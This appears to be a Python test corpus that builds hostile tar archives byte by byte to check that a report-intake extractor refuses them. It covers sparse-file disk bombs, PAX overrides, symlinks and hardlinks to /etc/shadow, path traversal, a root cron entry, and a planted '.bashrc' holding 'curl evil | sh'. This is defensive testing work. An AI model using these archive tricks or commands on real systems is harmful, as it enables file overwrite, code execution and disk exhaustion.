"""Hostile report containers, each with the exact outcome `extract_container` must give it.

A source with JavaScript on builds its own container, so a tampered browser
can send any tar at all to the reviewers' air-gapped machine. Every builder
here returns one such container (the decrypted bytes, as the reviewer's tool
sees them) and its outcome: `ACCEPTED`, or a substring of the one sentence of
the refusal.

The tars are assembled here byte by byte (ustar headers with their checksum,
the GNU sparse layout, PAX records), or with the standard library's writer
where it writes what is wanted; never with the module under test, so that a
mistake in the intake's writer cannot hide the same mistake in its reader.

`CORPUS` maps each attack's name to its builder; tests/test_hostile_containers.py
runs every item.
"""

from __future__ import annotations

import functools
import hashlib
import io
import json
import tarfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass

BLOCK = 512
MiB = 1024 * 1024
ACCEPTED = "accepted"
V1 = "intake-report/v1"
V2 = "intake-report/v2"
POSIX_MAGIC = b"ustar\x0000"
GNU_MAGIC = b"ustar  \x00"
#: What a sparse member claims to expand to: a container of a few KB that, opened
#: as tar would open it, writes this much on the reviewer's disk.
SPARSE_EXPANDED = 256 * MiB
SPARSE_TAIL = b"tail"
#: The bound on entries: report.json and 20 attachments (intake.limits, restated).
MAX_ENTRIES = 21


@dataclass(frozen=True)
class HostileContainer:
    """The bytes of one container and the outcome it must get."""

    data: bytes
    outcome: str  # ACCEPTED, or a substring of the refusal


Builder = Callable[[], HostileContainer]
CORPUS: dict[str, Builder] = {}


def hostile(name: str) -> Callable[[Builder], Builder]:
    """Register the decorated builder in `CORPUS` under the attack's `name`."""

    def register(builder: Builder) -> Builder:
        assert name not in CORPUS, name
        CORPUS[name] = builder
        return builder

    return register


# --------------------------------------------------------------------------- tar by hand


def _text(value: str | bytes) -> bytes:
    return value.encode("utf-8") if isinstance(value, str) else value


def header(
    name: str | bytes,
    size: int,
    typeflag: bytes = tarfile.REGTYPE,
    *,
    magic: bytes = POSIX_MAGIC,
    linkname: str | bytes = b"",
    prefix: str | bytes = b"",
    size_field: bytes | None = None,
    extra: dict[int, bytes] | None = None,
) -> bytes:
    """One 512-byte tar header with a correct checksum; `extra` patches raw offsets."""
    block = bytearray(BLOCK)

    def put(offset: int, value: bytes) -> None:
        block[offset : offset + len(value)] = value

    put(0, _text(name)[:100])
    put(100, b"0000644\x00")
    put(108, b"0000000\x00")
    put(116, b"0000000\x00")
    put(124, size_field if size_field is not None else b"%011o\x00" % size)
    put(136, b"00000000000\x00")
    put(156, typeflag)
    put(157, _text(linkname)[:100])
    put(257, magic)
    put(329, b"0000000\x00")
    put(337, b"0000000\x00")
    put(345, _text(prefix)[:155])
    for offset, value in (extra or {}).items():
        put(offset, value)
    put(148, b" " * 8)
    put(148, b"%06o\x00 " % sum(block))
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % BLOCK)


def member(name: str | bytes, data: bytes, typeflag: bytes = tarfile.REGTYPE, **kw) -> bytes:
    return header(name, len(data), typeflag, **kw) + padded(data)


def padme(length: int) -> int:
    """Padmé (Nikitin et al., PETS 2019), restated here rather than imported."""
    if length < 2:
        return length
    exponent = length.bit_length() - 1
    mask = (1 << (exponent - exponent.bit_length())) - 1
    return (length + mask) & ~mask


def finish(*members: bytes) -> bytes:
    """The members, the end-of-archive marker, zeros up to the Padmé length."""
    body = b"".join(members) + bytes(2 * BLOCK)
    return body + bytes(padme(len(body)) - len(body))


def entry(path: str, data: bytes, **overrides) -> dict:
    listed = {
        "path": path,
        "name": path.rsplit("/", 1)[-1],
        "type": "application/octet-stream",
        "size": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
    }
    listed.update(overrides)
    return listed


def report(listed: Iterable[dict], schema: str = V2, **overrides) -> bytes:
    document = {
        "schema": schema,
        "lang": "ar",
        "fields": {"summary": "رسالة مشبوهة", "categories": ["phishing"]},
        "attachments": list(listed),
    }
    document.update(overrides)
    return json.dumps(document, ensure_ascii=False, sort_keys=True, indent=1).encode("utf-8")


GOOD = ("attachments/01-screenshot.png", b"\x89PNG not really, but bytes")
SECOND = ("attachments/02-notes.txt", "ملاحظات".encode())


def v2(*files: tuple[str, bytes], listed: Iterable[dict] | None = None, **report_kw) -> bytes:
    """Version 2: the files, then report.json listing `listed` (default: the files)."""
    listed = [entry(p, d) for p, d in files] if listed is None else listed
    listing = member("report.json", report(listed, **report_kw))
    return finish(*(member(p, d) for p, d in files), listing)


def v1(*files: tuple[str, bytes], listed: Iterable[dict] | None = None) -> bytes:
    """Version 1: report.json first, then the files."""
    listed = [entry(p, d) for p, d in files] if listed is None else listed
    return finish(member("report.json", report(listed, V1)), *(member(p, d) for p, d in files))


def with_pax(info: tarfile.TarInfo, data: bytes, pax: dict[str, str]) -> bytes:
    """One member written by tarfile's PAX writer, with the extended records `pax`."""
    info.pax_headers = pax
    out = io.BytesIO()
    tar = tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT)  # noqa: SIM115
    tar.addfile(info, io.BytesIO(data))
    written = out.getvalue()  # the extended header and the member, before the end marker
    tar.close()
    return written


@functools.cache
def sparse_digest() -> str:
    """SHA-256 of what a sparse member expands to: zeros, then SPARSE_TAIL."""
    digest = hashlib.sha256()
    zeros = bytes(MiB)
    hole = SPARSE_EXPANDED - len(SPARSE_TAIL)
    for _ in range(hole // MiB):
        digest.update(zeros)
    digest.update(bytes(hole % MiB))
    digest.update(SPARSE_TAIL)
    return digest.hexdigest()


def sparse_listing(path: str) -> list[dict]:
    """report.json's entry for the expanded file: exactly what tar -x would write."""
    return [
        {"path": path, "name": "big.bin", "type": "application/octet-stream",
         "size": SPARSE_EXPANDED, "sha256": sparse_digest()}
    ]


def one(data: bytes, outcome: str) -> HostileContainer:
    return HostileContainer(data, outcome)


# --------------------------------------------------------------------------- accepted


@hostile("valid-v2")
def _() -> HostileContainer:
    return one(v2(GOOD, SECOND), ACCEPTED)


@hostile("valid-v2-without-files")
def _() -> HostileContainer:
    return one(v2(), ACCEPTED)


@hostile("valid-v1")
def _() -> HostileContainer:
    return one(v1(GOOD, SECOND), ACCEPTED)


@hostile("valid-v2-with-the-attachments-folder-entry")
def _() -> HostileContainer:
    folder = header("attachments/", 0, tarfile.DIRTYPE)
    return one(
        finish(folder, member(*GOOD), member("report.json", report([entry(*GOOD)]))), ACCEPTED
    )


@hostile("name-with-a-trailing-newline-is-normalised")
def _() -> HostileContainer:
    return one(v2(("attachments/01-a.pdf\n", b"%PDF-1.7")), ACCEPTED)


@hostile("name-with-arabic-indic-digits-is-normalised")
def _() -> HostileContainer:
    return one(v2(("attachments/١٢-x.pdf", b"%PDF-1.7")), ACCEPTED)


@hostile("name-with-bidi-override-is-normalised")
def _() -> HostileContainer:
    return one(v2(("attachments/01-photo\u202egpj.exe", b"MZ")), ACCEPTED)


# --------------------------------------------------------------------------- entry types


@hostile("gnu-sparse-member")
def _() -> HostileContainer:
    # Old GNU sparse ('S'): 4 bytes stored, one map entry placing them at the end
    # of a SPARSE_EXPANDED-byte file; tar -x (and tarfile) write the zeros of the hole.
    path = "attachments/01-big.bin"
    sparse = {
        386: b"%011o\x00" % (SPARSE_EXPANDED - len(SPARSE_TAIL)),
        398: b"%011o\x00" % len(SPARSE_TAIL),
        482: b"\x00",
        483: b"%011o\x00" % SPARSE_EXPANDED,
    }
    gnu = header(path, len(SPARSE_TAIL), tarfile.GNUTYPE_SPARSE, magic=GNU_MAGIC, extra=sparse)
    return one(
        finish(member("report.json", report(sparse_listing(path), V1)), gnu + padded(SPARSE_TAIL)),
        "a GNU sparse file",
    )


@hostile("pax-gnu-sparse-0.1-member")
def _() -> HostileContainer:
    path = "attachments/01-big.bin"
    info = tarfile.TarInfo(path)
    info.size = len(SPARSE_TAIL)
    pax = {
        "GNU.sparse.size": str(SPARSE_EXPANDED),
        "GNU.sparse.map": f"{SPARSE_EXPANDED - len(SPARSE_TAIL)},{len(SPARSE_TAIL)}",
        "GNU.sparse.name": path,
    }
    return one(
        finish(
            member("report.json", report(sparse_listing(path), V1)),
            with_pax(info, SPARSE_TAIL, pax),
        ),
        "a PAX extended header",
    )


@hostile("pax-gnu-sparse-1.0-member")
def _() -> HostileContainer:
    path = "attachments/01-big.bin"
    sparse_map = padded(b"1\n%d\n%d\n" % (SPARSE_EXPANDED - len(SPARSE_TAIL), len(SPARSE_TAIL)))
    info = tarfile.TarInfo("attachments/GNUSparseFile.0/01-big.bin")
    info.size = len(sparse_map) + len(SPARSE_TAIL)
    pax = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": path,
        "GNU.sparse.realsize": str(SPARSE_EXPANDED),
    }
    return one(
        finish(
            member("report.json", report(sparse_listing(path), V1)),
            with_pax(info, sparse_map + SPARSE_TAIL, pax),
        ),
        "a PAX extended header",
    )


@hostile("pax-size-override")
def _() -> HostileContainer:
    # A PAX "size" record that makes a 4-byte member claim 3 GiB.
    info = tarfile.TarInfo(GOOD[0])
    info.size = 4
    return one(
        finish(with_pax(info, b"tiny", {"size": str(3 * 1024 * MiB)})), "a PAX extended header"
    )


@hostile("pax-path-record")
def _() -> HostileContainer:
    info = tarfile.TarInfo("attachments/01-innocent.txt")
    info.size = len(GOOD[1])
    return one(
        finish(with_pax(info, GOOD[1], {"path": "../../.bashrc"})),
        "a PAX extended header",
    )


@hostile("pax-global-header")
def _() -> HostileContainer:
    records = b"30 path=attachments/01-x.bin\n"
    return one(
        finish(member("pax_global_header", records, tarfile.XGLTYPE), member(*GOOD)),
        "a PAX global header",
    )


@hostile("gnu-long-name")
def _() -> HostileContainer:
    long_name = b"attachments/01-" + b"a" * 200 + b".pdf\x00"
    return one(
        finish(
            member("././@LongLink", long_name, tarfile.GNUTYPE_LONGNAME, magic=GNU_MAGIC),
            member("attachments/01-short.pdf", b"%PDF"),
        ),
        "a GNU long name",
    )


@hostile("gnu-long-link")
def _() -> HostileContainer:
    return one(
        finish(
            member("././@LongLink", b"/etc/shadow\x00", tarfile.GNUTYPE_LONGLINK, magic=GNU_MAGIC),
            header("attachments/02-link", 0, tarfile.SYMTYPE, linkname="x"),
        ),
        "a GNU long link",
    )


@hostile("symlink")
def _() -> HostileContainer:
    link = header("attachments/02-passwd", 0, tarfile.SYMTYPE, linkname="/etc/passwd")
    return one(finish(member(*GOOD), link, member("report.json", report([entry(*GOOD)]))),
               "a symbolic link")


@hostile("symlink-as-the-attachments-folder")
def _() -> HostileContainer:
    link = header("attachments", 0, tarfile.SYMTYPE, linkname="..")
    return one(finish(link, member(*GOOD), member("report.json", report([entry(*GOOD)]))),
               "a symbolic link")


@hostile("hardlink")
def _() -> HostileContainer:
    link = header("attachments/02-hard", 0, tarfile.LNKTYPE, linkname="/etc/shadow")
    return one(finish(member(*GOOD), link), "a hard link")


@hostile("character-device")
def _() -> HostileContainer:
    device = header("attachments/02-null", 0, tarfile.CHRTYPE,
                    extra={329: b"0000001\x00", 337: b"0000003\x00"})
    return one(finish(device), "a character device")


@hostile("block-device")
def _() -> HostileContainer:
    device = header("attachments/02-sda", 0, tarfile.BLKTYPE,
                    extra={329: b"0000010\x00", 337: b"0000000\x00"})
    return one(finish(device), "a block device")


@hostile("fifo")
def _() -> HostileContainer:
    return one(finish(header("attachments/02-pipe", 0, tarfile.FIFOTYPE)), "a FIFO")


@hostile("directory-inside-attachments")
def _() -> HostileContainer:
    return one(finish(header("attachments/sub/", 0, tarfile.DIRTYPE)), "a directory")


@hostile("directory-at-the-top")
def _() -> HostileContainer:
    return one(finish(header("evil/", 0, tarfile.DIRTYPE)), "a directory")


@hostile("directory-as-an-old-style-slash-name")
def _() -> HostileContainer:
    return one(finish(header("cases/", 0, tarfile.AREGTYPE)), "a directory")


@hostile("attachments-folder-with-a-body")
def _() -> HostileContainer:
    # A directory entry that claims data: tar skips nothing for it, so its "data"
    # would be read as the next headers.
    smuggled = header("attachments/", BLOCK, tarfile.DIRTYPE) + member("../evil", b"x")[:BLOCK]
    return one(finish(smuggled), "damaged entry header")


@hostile("contiguous-file")
def _() -> HostileContainer:
    return one(finish(member("attachments/01-x.bin", b"data", tarfile.CONTTYPE)),
               "a contiguous file")


@hostile("unknown-entry-type")
def _() -> HostileContainer:
    return one(finish(member("attachments/01-x.bin", b"data", b"Z")), "an entry of an unknown type")


@hostile("gnu-format-plain-file")
def _() -> HostileContainer:
    return one(finish(member(*GOOD, magic=GNU_MAGIC)), "not in POSIX ustar format")


@hostile("v7-header-without-magic")
def _() -> HostileContainer:
    return one(finish(member(*GOOD, magic=bytes(8))), "not in POSIX ustar format")


# --------------------------------------------------------------------------- names


@hostile("absolute-path")
def _() -> HostileContainer:
    return one(finish(member("/etc/cron.d/evil", b"* * * * * root sh")), "absolute path")


@hostile("absolute-windows-path")
def _() -> HostileContainer:
    return one(finish(member("C:/Users/evil.bat", b"x")), "absolute path")


@hostile("absolute-path-through-the-prefix-field")
def _() -> HostileContainer:
    return one(finish(member("evil", b"x", prefix="/tmp")), "absolute path")


@hostile("dotdot")
def _() -> HostileContainer:
    return one(finish(member("attachments/../../evil", b"x")), "climbs out")


@hostile("dotdot-with-backslashes")
def _() -> HostileContainer:
    return one(finish(member("attachments\\..\\..\\evil", b"x")), "climbs out")


@hostile("dotdot-hidden-by-a-bidi-control")
def _() -> HostileContainer:
    return one(finish(member("attachments/.\u202e./evil", b"x")), "climbs out")


@hostile("dotdot-in-report-json")
def _() -> HostileContainer:
    return one(v2(listed=[entry("attachments/../../evil", b"")]), "climbs out")


@hostile("nul-in-name")
def _() -> HostileContainer:
    # tar stops at the NUL: "01-invoice.pdf" on disk, ".exe" hidden in the header.
    return one(finish(member(b"attachments/01-invoice.pdf\x00.exe", b"MZ")), "NUL byte")


@hostile("nul-in-listed-path")
def _() -> HostileContainer:
    return one(v2(listed=[entry("attachments/01-a.pdf\x00.exe", b"")]), "NUL byte")


@hostile("entry-outside-attachments")
def _() -> HostileContainer:
    return one(finish(member(".bashrc", b"curl evil | sh")), "unexpected entry")


@hostile("entry-nested-inside-attachments")
def _() -> HostileContainer:
    return one(finish(member("attachments/sub/01-a.txt", b"x")), "unexpected entry")


# --------------------------------------------------------------------------- bounds


@hostile("too-many-entries")
def _() -> HostileContainer:
    files = [(f"attachments/{i:02d}-f.txt", b"x") for i in range(1, MAX_ENTRIES + 1)]
    return one(v2(*files, listed=[]), f"more than {MAX_ENTRIES} entries")


@hostile("member-over-the-size-bound")
def _() -> HostileContainer:
    # The header claims 6 GiB (over the 4 GiB ceiling); four bytes follow.
    claim = header(GOOD[0], 6 * 1024 * MiB) + padded(b"tiny")
    return one(finish(claim), "larger than the size limit")


@hostile("member-size-in-base-256")
def _() -> HostileContainer:
    # GNU's base-256 size field, here negative: -1.
    return one(finish(header(GOOD[0], 0, size_field=b"\xff" * 12) + padded(b"x")),
               "damaged entry header")


@hostile("report-json-over-its-limit")
def _() -> HostileContainer:
    huge = report([], summary="x" * (1024 * 1024))
    return one(finish(member("report.json", huge)), "report.json is larger than the limit")


@hostile("too-many-listed-attachments")
def _() -> HostileContainer:
    return one(v2(listed=[entry(f"attachments/{i:02d}-f", b"") for i in range(1, 22)]),
               "malformed or too long attachment list")


# --------------------------------------------------------------------------- structure


@hostile("report-json-missing")
def _() -> HostileContainer:
    return one(finish(member(*GOOD), member(*SECOND)), "has no report.json")


@hostile("v2-file-after-report-json")
def _() -> HostileContainer:
    return one(
        finish(member(*GOOD), member("report.json", report([entry(*GOOD)])), member(*SECOND)),
        "an entry after report.json",
    )


@hostile("v2-report-json-twice")
def _() -> HostileContainer:
    listing = report([entry(*GOOD)])
    return one(
        finish(member(*GOOD), member("report.json", listing), member("report.json", listing)),
        "an entry after report.json",
    )


@hostile("v1-report-json-twice")
def _() -> HostileContainer:
    listing = report([entry(*GOOD)], V1)
    return one(
        finish(member("report.json", listing), member("report.json", listing), member(*GOOD)),
        "report.json twice",
    )


@hostile("v1-report-json-after-the-files")
def _() -> HostileContainer:
    return one(
        finish(member(*GOOD), member("report.json", report([entry(*GOOD)], V1))),
        "comes after the files only in an intake-report/v2 container",
    )


@hostile("duplicate-attachment-names")
def _() -> HostileContainer:
    return one(v2(GOOD, (GOOD[0], b"other bytes")), "twice")


@hostile("duplicate-names-after-stripping-invisibles")
def _() -> HostileContainer:
    return one(v2(GOOD, ("attachments/01-screen\u200bshot.png", b"other")), "twice")


@hostile("listed-twice")
def _() -> HostileContainer:
    return one(
        v2(GOOD, listed=[entry(*GOOD), entry(*GOOD, name="another.jpg")]), "lists the file"
    )


@hostile("size-does-not-match-report-json")
def _() -> HostileContainer:
    return one(v2(GOOD, listed=[entry(*GOOD, size=len(GOOD[1]) + 1)]),
               "does not match what report.json says of it")


@hostile("v1-size-does-not-match-report-json")
def _() -> HostileContainer:
    return one(v1(GOOD, listed=[entry(*GOOD, size=len(GOOD[1]) + 1)]),
               "does not match what report.json says of it")


@hostile("hash-does-not-match-report-json")
def _() -> HostileContainer:
    return one(v2(GOOD, listed=[entry(GOOD[0], GOOD[1].upper())]),
               "does not match what report.json says of it")


@hostile("file-report-json-does-not-list")
def _() -> HostileContainer:
    return one(v2(GOOD, SECOND, listed=[entry(*GOOD)]), "does not list")


@hostile("v1-file-report-json-does-not-list")
def _() -> HostileContainer:
    return one(v1(GOOD, SECOND, listed=[entry(*GOOD)]), "does not list")


@hostile("listed-file-missing")
def _() -> HostileContainer:
    return one(v2(GOOD, listed=[entry(*GOOD), entry(*SECOND)]),
               "does not match what report.json says of it")


@hostile("data-after-the-end-of-archive-marker")
def _() -> HostileContainer:
    return one(v2(GOOD) + padded(b"smuggled"), "data after its end-of-archive marker")


@hostile("member-after-the-end-of-archive-marker")
def _() -> HostileContainer:
    return one(v2(GOOD) + member(*SECOND), "data after its end-of-archive marker")


@hostile("data-hidden-in-block-padding")
def _() -> HostileContainer:
    path, data = GOOD
    hidden = header(path, len(data)) + data + b"hidden".ljust(BLOCK - len(data), b"\x00")
    return one(finish(hidden, member("report.json", report([entry(*GOOD)]))), "hides data")


@hostile("no-end-of-archive-marker")
def _() -> HostileContainer:
    return one(member(*GOOD) + member("report.json", report([entry(*GOOD)])),
               "ends without its end-of-archive marker")


@hostile("truncated-inside-an-attachment")
def _() -> HostileContainer:
    return one(header(GOOD[0], 5000) + bytes(1000), "truncated inside an attachment")


@hostile("truncated-inside-a-header")
def _() -> HostileContainer:
    return one(member(*GOOD) + header(SECOND[0], 3)[:300], "truncated inside an entry header")


@hostile("bad-header-checksum")
def _() -> HostileContainer:
    block = bytearray(member(*GOOD))
    block[0] ^= 0x01
    return one(finish(bytes(block)), "damaged entry header")


@hostile("not-a-tar")
def _() -> HostileContainer:
    return one(b"PK\x03\x04" + bytes(2000), "damaged entry header")


@hostile("empty")
def _() -> HostileContainer:
    return one(b"", "ends without its end-of-archive marker")


@hostile("only-the-end-of-archive-marker")
def _() -> HostileContainer:
    return one(bytes(4096), "has no report.json")


# --------------------------------------------------------------------------- report.json


def report_only(raw: bytes) -> bytes:
    """A container whose only member is report.json with the bytes `raw`."""
    return finish(member("report.json", raw))


@hostile("report-json-not-json")
def _() -> HostileContainer:
    return one(report_only(b"{not json"), "report.json is not valid UTF-8 JSON")


@hostile("report-json-not-utf8")
def _() -> HostileContainer:
    return one(report_only(b'{"schema": "\xff\xfe"}'), "report.json is not valid UTF-8 JSON")


@hostile("report-json-not-an-object")
def _() -> HostileContainer:
    return one(report_only(b'["intake-report/v2"]'), "report.json is not a JSON object")


@hostile("report-json-wrong-schema")
def _() -> HostileContainer:
    return one(v2(schema="intake-report/v9"), "neither an intake-report/v2 nor an intake-report/v1")


@hostile("report-json-schema-missing")
def _() -> HostileContainer:
    raw = json.dumps({"lang": "en", "fields": {}, "attachments": []}).encode()
    return one(report_only(raw), "neither an intake-report/v2 nor an intake-report/v1")


@hostile("report-json-nested-a-hundred-thousand-deep")
def _() -> HostileContainer:
    return one(report_only(b"[" * 100_000 + b"]" * 100_000), "not valid UTF-8 JSON")


@hostile("report-json-lone-surrogate")
def _() -> HostileContainer:
    raw = b'{"schema": "intake-report/v2", "lang": "en", "fields": {"summary": "\\ud800"}, ' \
        b'"attachments": []}'
    return one(report_only(raw), "not valid UTF-8 JSON")


@hostile("report-json-integer-of-a-million-digits")
def _() -> HostileContainer:
    raw = b'{"schema": "intake-report/v2", "n": ' + b"9" * 100_000 + b"}"
    return one(report_only(raw), "not valid UTF-8 JSON")


@hostile("report-json-fields-not-an-object")
def _() -> HostileContainer:
    return one(v2(fields=["x"]), "lacks its language or its fields")


@hostile("report-json-size-is-a-boolean")
def _() -> HostileContainer:
    return one(v2(("attachments/01-a.txt", b"x"), listed=[entry("attachments/01-a.txt", b"x",
                                                                  size=True)]),
               "malformed attachment entry")


@hostile("report-json-sha256-not-hex")
def _() -> HostileContainer:
    return one(v2(GOOD, listed=[entry(*GOOD, sha256="z" * 64)]), "malformed attachment entry")


@hostile("report-json-negative-size")
def _() -> HostileContainer:
    return one(v2(listed=[entry("attachments/01-a", b"", size=-1)]), "malformed attachment entry")
